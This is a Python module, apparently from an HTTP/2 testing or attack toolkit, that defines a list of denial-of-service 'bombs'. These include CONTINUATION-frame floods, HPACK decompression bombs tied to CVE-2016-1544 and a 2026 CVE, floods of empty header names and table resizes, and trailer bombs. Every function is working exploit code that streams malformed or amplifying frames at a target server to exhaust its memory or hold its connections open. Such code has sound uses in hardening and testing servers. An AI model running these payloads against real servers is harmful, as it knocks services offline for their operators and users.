"""Blocks of fields that are small on the way and large where they are read, or that never end."""

import time

import hpack

from .case import Flood, Result
from .client import Client
from .frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    NEWEST,
    frame,
    get,
    headers,
    indexed_literal,
    literal,
    post,
)
from .pouring import pour, poured, stream

#: No block is longer, so that it fits into one frame.
LONGEST = 16_000


def _endless_block(stage, part, count, batch):
    client = Client(stage.encrypted)
    client.send(frame(HEADERS, END_STREAM, 1, get()))
    return poured(client, count, lambda _: frame(CONTINUATION, 0, 1, part), batch)


def continuation_flood_empty(stage):
    return _endless_block(stage, b"", 100_000, 500)


def continuation_flood_16k(stage):
    part = b"".join(literal(b"x-%04d" % place, b"a" * 100) for place in range(140))
    return _endless_block(stage, part, 3_000, 4)


def continuation_flood_huffman(stage):
    pairs = [(b"x-%d" % place, b"0" * 60) for place in range(200)]
    return _endless_block(stage, hpack.Encoder().encode(pairs, huffman=True)[:LONGEST], 3_000, 4)


def empty_header_name_flood(stage):
    block = get() + literal(b"", b"") * 500
    return poured(Client(stage.encrypted), 2_000, lambda place: headers(stream(place), block), 10)


def hpack_bomb_big_value(stage):
    """A value of 4,000 bytes in the table, then thousands of references to it of one byte (CVE-2016-1544)."""
    client = Client(stage.encrypted)
    client.send(headers(1, get() + indexed_literal(b"x", b"a" * 4000)))
    return poured(client, 200, lambda place: headers(stream(place + 1), get() + NEWEST * 15_000), 2)


def http2_bomb_indexed_hold(stage):
    """15,000 references of one byte a stream, and no window, so that nothing ends (CVE-2026-49975)."""
    return _held(stage, indexed_literal(b"x", b"y"))


def http2_bomb_cookie_hold(stage):
    """The same of parts of a cookie, which some count as one field."""
    return _held(stage, indexed_literal(b"cookie", b"a"))


def _held(stage, field):
    clients, note = [], ""
    for _ in range(8):
        client = Client(stage.encrypted, settings=[(INITIAL_WINDOW_SIZE, 0)])
        client.send(headers(1, get() + field))
        bomb = get() + NEWEST * 15_000
        note = pour(client, 100, lambda place, bomb=bomb: headers(stream(place + 1), bomb), 5, seconds=3.0)
        clients.append(client)
    time.sleep(1.5)
    for client in clients:
        client.read_for(0.01)
    return Result(f"8 connections, last: {note}", tuple(clients))


def hpack_table_resize_flood(stage):
    block = b"\x20\x3f\xe1\x1f" * 2_000 + get()
    return poured(Client(stage.encrypted), 3_000, lambda place: headers(stream(place), block), 10)


def trailers_bomb(stage):
    encoder = hpack.Encoder()

    def exchange(place):
        pairs = [(f"t{number}", "v" * 50) for number in range(250)]
        trailers = encoder.encode(pairs, huffman=False)[:LONGEST]
        begun = headers(stream(place), post(), END_HEADERS) + frame(DATA, 0, stream(place), b"x")
        return begun + headers(stream(place), trailers)

    return poured(Client(stage.encrypted), 300, exchange, 5)


BOMBS = [
    Flood.of(continuation_flood_empty),
    Flood.of(continuation_flood_16k),
    Flood.of(continuation_flood_huffman),
    Flood.of(empty_header_name_flood),
    Flood.of(hpack_bomb_big_value),
    Flood.of(http2_bomb_indexed_hold),
    Flood.of(http2_bomb_cookie_hold),
    Flood.of(hpack_table_resize_flood),
    Flood.of(trailers_bomb),
]
